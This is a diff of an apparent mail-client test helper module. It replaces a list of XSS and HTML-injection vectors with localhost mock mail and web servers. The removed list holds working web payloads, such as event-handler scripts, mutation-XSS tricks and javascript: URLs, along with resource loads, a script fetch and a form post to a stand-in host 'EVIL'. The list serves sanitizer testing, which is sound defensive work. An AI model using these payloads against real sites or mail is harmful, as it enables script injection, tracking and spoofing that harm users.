@@ -1,20 +1,107 @@
-// HTML that wants to run, to load or to leave its frame. Each is a mail part of its own.
+// Servers that are up to no good: a scripted mail server, and a web server that counts who comes.
 
-/** Our own; the corpus has thousands more. EVIL stands for a host outside. */
-export const VECTORS = [
-  '<script>alert(1)</script>', '<ScRiPt src="https://EVIL/x.js"></sCrIpT>', '<img src=x onerror=alert(1)>', '<img src="https://EVIL/p.png" onload=alert(1)>', '<body onload=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
-  '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
-  '<object data="https://EVIL/x"></object>', '<embed src="https://EVIL/x">', '<applet code=x>', '<base href="https://EVIL/">', '<meta http-equiv="refresh" content="0;url=https://EVIL/">', '<link rel=stylesheet href="https://EVIL/x.css">', '<link rel=prefetch href="https://EVIL/x">',
-  '<style>@import "https://EVIL/x.css";</style>', '<style>body{background:url(https://EVIL/bg.png)}</style>', '<style>@font-face{font-family:x;src:url(https://EVIL/f.woff)}*{font-family:x}</style>', '<style>html{position:fixed;inset:0;z-index:9}</style>',
-  '<style>a[href^="https"]{background-image:image-set("https://EVIL/a.png" 1x)}</style>', '<div style="background:url(https://EVIL/d.png)">x</div>', '<div style="background:\\75rl(https://EVIL/e.png)">x</div>', '<div style="list-style-image:url(\'//EVIL/f\')">x</div>', '<div style="width:expression(alert(1))">x</div>',
-  '<div style="cursor:url(https://EVIL/c.cur),auto;content:url(https://EVIL/k)">x</div>', '<table background="https://EVIL/t.png"><tr><td background="https://EVIL/u.png">x</td></tr></table>', '<a href="javascript:alert(1)">x</a>', '<a href="jAvAsCrIpT&colon;alert(1)">x</a>', '<a href="&#1;javascript:alert(1)">x</a>',
-  '<a href="java&#9;script:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="/oauth/microsoft/start">x</a>', '<a href="vbscript:x" ping="https://EVIL/ping">x</a>', '<a href="#" target="_top" onclick="alert(1)">x</a>', '<area shape=rect coords=0,0,9,9 href="javascript:alert(1)">',
-  '<img src="/oauth/microsoft/start">', '<img src="../auth/logout">', '<img srcset="https://EVIL/s.png 1x" src="https://EVIL/s.png">', '<picture><source srcset="https://EVIL/v.png"><img alt=x></picture>', '<img src="data:image/svg+xml,<svg onload=alert(1) xmlns=http://www.w3.org/2000/svg>">', '<img lowsrc="https://EVIL/l" dynsrc="https://EVIL/m">',
-  '<video src="https://EVIL/v.mp4" autoplay poster="https://EVIL/po.png"><source onerror=alert(1)></video>', '<audio src="https://EVIL/a.mp3" autoplay>', '<input autofocus onfocus=alert(1)>', '<form action="https://EVIL/"><input type=image src="https://EVIL/i.png"><button formaction="javascript:alert(1)">x</button></form>',
-  '<details open ontoggle=alert(1)><summary>x</summary></details>', '<marquee onstart=alert(1)>x</marquee>', '<select autofocus onfocus=alert(1)>', '<p contenteditable autofocus onfocus=alert(1) tabindex=1>x</p>', '<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>y</button>',
-  '<template><script>alert(1)</script></template>', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<textarea></textarea><img src=x onerror=alert(1)>', '<title><img src=x onerror=alert(1)></title>', '<plaintext><img src=x onerror=alert(1)>', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>',
-  '<a id=defaultView><a id=defaultView name=location>x</a>', '<img name=getElementById><form name=body><input name=parentNode></form>', '<div id="root"></div><div class="postroom-mail" id="content">x</div>', '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">over everything</div>', '<div style="height:99999999px">tall</div>',
-  '<div class="postroom-quote"></div></div></body></html><script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '</style><img src=x onerror=alert(1)>', '<b><style></b><img src=x onerror=alert(1)></style>', '<img src=`x`onerror=alert(1)>', '<img/src/onerror=alert(1)>', '<\u0000script>alert(1)</script>',
-  '<isindex action=j&Tab;a&Tab;vas&Tab;c&Tab;r&Tab;ipt:alert(1) type=image>', '<frameset onload=alert(1)><frame src="https://EVIL/"></frameset>', '<portal src="https://EVIL/">', '<dialog open onclose=alert(1)>x</dialog>', '<button popovertarget=x onclick=alert(1)>x</button>',
-];
+import { readFileSync } from 'node:fs';
+import http from 'node:http';
+import net from 'node:net';
+import path from 'node:path';
+import tls from 'node:tls';
+
+async function listen(server, host) {
+  await new Promise((resolve, reject) => server.once('error', reject).listen(0, host, resolve));
+  return server.address().port;
+}
+
+/**
+ * A mail server: `greeting`, then answer(line, say) for each line that the client sends; upgrade() in its context starts TLS with org's
+ * certificate (implicit from the start with `secure`). heard: everything that came, in the clear or not.
+ */
+export async function mailServer({ org, greeting, answer, secure = false, host = '127.0.0.1' }) {
+  const identity = () => ({ key: readFileSync(path.join(org.dir, 'tls/server.key')), cert: readFileSync(path.join(org.dir, 'tls/server.pem')) });
+  const heard = [];
+  const sockets = new Set();
+
+  function talk(socket, begin) {
+    let waiting = '';
+    const say = (text) => socket.writable && socket.write(text);
+    socket.on('error', () => {});
+    socket.on('data', (piece) => {
+      waiting += piece.toString('latin1');
+      for (let end = waiting.indexOf('\n'); end >= 0; end = waiting.indexOf('\n')) {
+        const line = waiting.slice(0, end).replace(/\r$/, '');
+        waiting = waiting.slice(end + 1);
+        heard.push(line);
+        answer(line, say, { upgrade, end: () => socket.destroy() });
+      }
+    });
+    function upgrade(afterwards) {
+      socket.removeAllListeners('data');
+      const inner = new tls.TLSSocket(socket, { isServer: true, ...identity() });
+      inner.on('error', () => {});
+      inner.once('secure', () => talk(inner, afterwards));
+    }
+    if (begin) say(begin);
+  }
+
+  const onConnection = (socket) => {
+    sockets.add(socket);
+    socket.once('close', () => sockets.delete(socket));
+    heard.push('(connected)');
+    talk(socket, greeting);
+  };
+  const server = secure ? tls.createServer(identity(), onConnection) : net.createServer(onConnection);
+  server.on('tlsClientError', () => {});
+  const port = await listen(server, host);
+  return {
+    port,
+    heard,
+    close: () => new Promise((resolve) => {
+      for (const socket of sockets) socket.destroy();
+      server.close(resolve);
+    }),
+  };
+}
+
+/** A web server; hits: the requests it saw. */
+export async function webServer(handle, host = '127.0.0.1') {
+  const hits = [];
+  const server = http.createServer((request, response) => {
+    hits.push(request.url);
+    handle(request, response);
+  });
+  const port = await listen(server, host);
+  return {
+    port,
+    hits,
+    close: () => new Promise((resolve) => {
+      server.closeAllConnections();
+      server.close(resolve);
+    }),
+  };
+}
+
+/** One request as it stands, by hand: no fetch that would tidy it up. { status, headers, text }. */
+export function ask(port, method, target, { headers = {}, body } = {}) {
+  return new Promise((resolve, reject) => {
+    const request = http.request({ host: '127.0.0.1', port, method, path: target, headers, setHost: headers.Host === undefined, agent: false }, (response) => {
+      const pieces = [];
+      response.on('data', (d) => pieces.push(d));
+      response.on('end', () => resolve({ status: response.statusCode, headers: response.headers, text: Buffer.concat(pieces).toString('latin1') }));
+    });
+    request.once('error', reject);
+    request.setTimeout(15000, () => request.destroy(new Error(`${method} ${target}: no answer`)));
+    request.end(body);
+  });
+}
+
+/** Sends these bytes and reads until the other end says so much or closes. */
+export function send(port, bytes, { ms = 5000, enough = /\r\n\r\n/ } = {}) {
+  return new Promise((resolve, reject) => {
+    let got = '';
+    const socket = net.connect(port, '127.0.0.1', () => socket.write(bytes));
+    const done = () => { clearTimeout(timer); socket.destroy(); resolve(got); };
+    const timer = setTimeout(done, ms);
+    socket.on('data', (d) => { got += d.toString('latin1'); if (enough.test(got)) done(); });
+    socket.once('close', done);
+    socket.once('error', (error) => (got ? done() : reject(error)));
+  });
+}
